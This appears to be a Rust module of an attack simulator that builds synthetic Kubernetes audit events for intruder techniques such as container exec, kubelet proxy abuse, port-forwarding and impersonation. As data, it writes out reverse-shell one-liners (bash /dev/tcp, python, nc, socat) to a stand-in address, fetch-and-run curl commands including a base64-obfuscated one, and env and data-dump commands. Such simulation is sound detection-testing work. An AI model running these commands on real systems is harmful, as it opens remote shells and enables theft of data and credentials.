//! Commands in containers, tunnels, and what goes through kubelets.

use serde_json::json;

use super::super::super::event::{Event, Target};
use super::super::exec::query;
use super::super::{ADMIN_REASON, Stage};
use super::{ANYONE, Ground, NOT_A_PIPELINE, Technique, Who, image};

pub(in super::super) const TECHNIQUES: &[Technique] = &[
    Technique {
        name: "Shell in a container (T1609)",
        run: shell,
        by: NOT_A_PIPELINE,
    },
    Technique {
        name: "Reverse shell (T1059.004)",
        run: reverse,
        by: NOT_A_PIPELINE,
    },
    Technique {
        name: "Ingress tool transfer (T1105)",
        run: download,
        by: NOT_A_PIPELINE,
    },
    Technique {
        name: "Attach to a container (T1609)",
        run: attach,
        by: NOT_A_PIPELINE,
    },
    Technique {
        name: "Ephemeral container (T1610)",
        run: ephemeral,
        by: &[Who::Person, Who::LocalAdmin],
    },
    Technique {
        name: "Collect data from a container (T1005)",
        run: copy_out,
        by: NOT_A_PIPELINE,
    },
    Technique {
        name: "Command in the system's namespace (T1609)",
        run: system,
        by: NOT_A_PIPELINE,
    },
];

pub(in super::super) const LATERAL: &[Technique] = &[
    Technique {
        name: "Command by a kubelet (T1609)",
        run: kubelet,
        by: ANYONE,
    },
    Technique {
        name: "Kubelet's API through nodes/proxy (T1613)",
        run: kubelet_read,
        by: ANYONE,
    },
    Technique {
        name: "Tunnel to a workload (T1090)",
        run: forward,
        by: NOT_A_PIPELINE,
    },
    Technique {
        name: "Service through the API server (T1090)",
        run: proxy,
        by: NOT_A_PIPELINE,
    },
    Technique {
        name: "Use the account that was made (T1078)",
        run: take_over,
        by: ANYONE,
    },
    Technique {
        name: "Impersonation (T1078)",
        run: impersonate,
        by: &[Who::Person, Who::LocalAdmin],
    },
];

/// An exec by the intruder's client.
pub(super) fn command(
    s: &mut Stage<'_>,
    g: &Ground,
    (ns, pod): (&str, &str),
    words: &[&str],
    tty: bool,
) -> Event {
    let pods = Target::core("pods").ns(ns).name(pod);
    g.client
        .request(s.rng, s.now(), g.upgrade(), pods.sub("exec"))
        .query(&query(words, tty))
        .code(101)
}

fn shell(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, _, pod) = s.victim();
    let words: &[&str] = match s.rng.below(4) {
        0 => &["/bin/sh"],
        1 => &["bash", "-i"],
        2 => &["sh", "-c", "clear; (bash || ash || sh)"],
        _ => &["/bin/bash", "-il"],
    };
    let event = command(s, g, (&ns, &pod), words, true);
    s.strike_long("opens a shell", event, 200.0);
}

fn reverse(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, _, pod) = s.victim();
    let words: &[&str] = match s.rng.below(4) {
        0 => &[
            "bash",
            "-c",
            "exec 5<>/dev/tcp/198.51.100.23/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
        ],
        1 => &[
            "python3",
            "-c",
            "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.23',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])",
        ],
        2 => &[
            "sh",
            "-c",
            "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.23 9001 >/tmp/f",
        ],
        _ => &[
            "socat",
            "exec:bash -li,pty,stderr,setsid,sigint,sane",
            "tcp:198.51.100.23:4444",
        ],
    };
    let event = command(s, g, (&ns, &pod), words, false);
    s.strike_long("opens a shell over the network", event, 30.0);
}

fn download(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, _, pod) = s.victim();
    let words: &[&str] = match s.rng.below(3) {
        0 => &[
            "sh",
            "-c",
            "curl -sL https://198.51.100.77/k -o /tmp/k && chmod +x /tmp/k && /tmp/k",
        ],
        1 => &[
            "wget",
            "-O",
            "/dev/shm/kubectl",
            "https://dl.k8s.io/release/v1.32.0/bin/linux/amd64/kubectl",
        ],
        _ => &[
            "bash",
            "-c",
            "echo Y3VybCAxOTguNTEuMTAwLjc3L3h8c2g= | base64 -d | sh",
        ],
    };
    let event = command(s, g, (&ns, &pod), words, false);
    s.strike_long("brings a tool in", event, 5.0);
}

fn attach(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, _, pod) = s.victim();
    let pods = Target::core("pods").ns(&ns).name(&pod).sub("attach");
    let event = g
        .client
        .request(s.rng, s.now(), g.upgrade(), pods)
        .query("container=app&stdin=true&stdout=true&tty=true")
        .code(101);
    s.strike_long("attaches to the process", event, 90.0);
}

fn ephemeral(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, app, pod) = s.victim();
    let image = image(s);
    let container = json!({"name": "debugger-x7k", "image": image, "stdin": true, "tty": true, "targetContainerName": "app",
        "securityContext": {"capabilities": {"add": ["SYS_PTRACE"]}}});
    let object = json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": pod, "namespace": ns, "labels": {"app": app}},
        "spec": {"containers": [{"name": "app", "image": "registry.example.azurecr.io/x/app:1"}], "ephemeralContainers": [container]}});
    let patch = json!({"spec": {"ephemeralContainers": [container], "$setElementOrder/ephemeralContainers": [{"name": "debugger-x7k"}]}});
    let target = Target::core("pods")
        .ns(&ns)
        .name(&pod)
        .sub("ephemeralcontainers");
    let event = g
        .client
        .request(s.rng, s.now(), "patch", target)
        .sends(patch.to_string())
        .gets(object.to_string());
    s.strike("adds a container to the pod", event);
}

fn copy_out(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, _, pod) = s.victim();
    let event = command(
        s,
        g,
        (&ns, &pod),
        &["tar", "cf", "-", "/var/lib/data"],
        false,
    );
    s.strike_long("copies data out", event, 40.0);
}

fn system(s: &mut Stage<'_>, g: &mut Ground) {
    let pod = format!(
        "{}-{}",
        s.rng
            .pick(&["kube-proxy", "azure-cns", "csi-azuredisk-node", "cilium"]),
        s.rng.suffix(5)
    );
    let event = command(s, g, ("kube-system", &pod), &["ls", "-la", "/"], false);
    s.strike_long("runs a command in a pod of the system", event, 1.0);
}

fn kubelet(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, _, pod) = s.victim();
    let node = s.world.nodes[s.rng.below(s.world.nodes.len())].name.clone();
    let (verb, path) = match s.rng.below(2) {
        0 => ("create", format!("/run/{ns}/{pod}/app?cmd=id")),
        _ => (
            "get",
            format!("/exec/{ns}/{pod}/app?command=id&input=1&output=1&tty=0"),
        ),
    };
    let mut event = g.client.request(
        s.rng,
        s.now(),
        verb,
        Target::core("nodes").name(&node).sub("proxy"),
    );
    event.uri.push_str(&path);
    s.strike_long("has a kubelet run a command", event, 1.0);
}

fn kubelet_read(s: &mut Stage<'_>, g: &mut Ground) {
    let node = s.world.nodes[s.rng.below(s.world.nodes.len())].name.clone();
    for path in ["/pods", "/configz", "/logs/"] {
        let mut event = g.client.request(
            s.rng,
            s.now(),
            "get",
            Target::core("nodes").name(&node).sub("proxy"),
        );
        event.uri.push_str(path);
        s.strike_long("reads from a kubelet", event, 0.2);
    }
}

fn forward(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, _, pod) = s.victim();
    let pods = Target::core("pods").ns(&ns).name(&pod).sub("portforward");
    let event = g
        .client
        .request(s.rng, s.now(), g.upgrade(), pods)
        .query("ports=5432")
        .code(101);
    s.strike_long("forwards a port", event, 300.0);
}

fn proxy(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, app, _) = s.victim();
    for path in ["/", "/actuator/env", "/admin"] {
        let target = Target::core("services")
            .ns(&ns)
            .name(&format!("{app}:8080"))
            .sub("proxy");
        let mut event = g.client.request(s.rng, s.now(), "get", target);
        event.uri.push_str(path);
        s.strike_long("reaches into a service", event, 0.2);
    }
}

/// The account that earlier acts made, from where the intruder is.
fn take_over(s: &mut Stage<'_>, g: &mut Ground) {
    let Some(account) = g.account.clone() else {
        return forward(s, g);
    };
    let (ns, name) = (&account.namespace, &account.name);
    let identity = super::super::Identity::bearer(s.rng, ns, name, account.secret);
    g.client = if g.address.is_empty() {
        s.world.client(&identity, 0, g.agent, ADMIN_REASON)
    } else {
        s.world
            .outside(&identity, &g.address, g.agent, ADMIN_REASON)
    };
    g.who = Who::Account;
    let (ns, _, pod) = s.victim();
    let event = command(s, g, (&ns, &pod), &["sh", "-c", "id; env"], false);
    s.strike_long("runs a command as the account", event, 1.0);
}

fn impersonate(s: &mut Stage<'_>, g: &mut Ground) {
    let (user, groups): (&str, &[&str]) = match s.rng.below(3) {
        0 => ("system:admin", &["system:masters"]),
        1 => (
            "system:serviceaccount:kube-system:clusterrole-aggregation-controller",
            &["system:serviceaccounts:kube-system"],
        ),
        _ => ("nobody", &["system:masters", "system:authenticated"]),
    };
    let as_whom = super::super::Identity::new(user, "", groups, &[]);
    let mut event = g
        .client
        .request(s.rng, s.now(), "list", Target::rbac("clusterrolebindings"));
    event.impersonated = Some(as_whom);
    s.strike("acts as someone with every right", event);
}
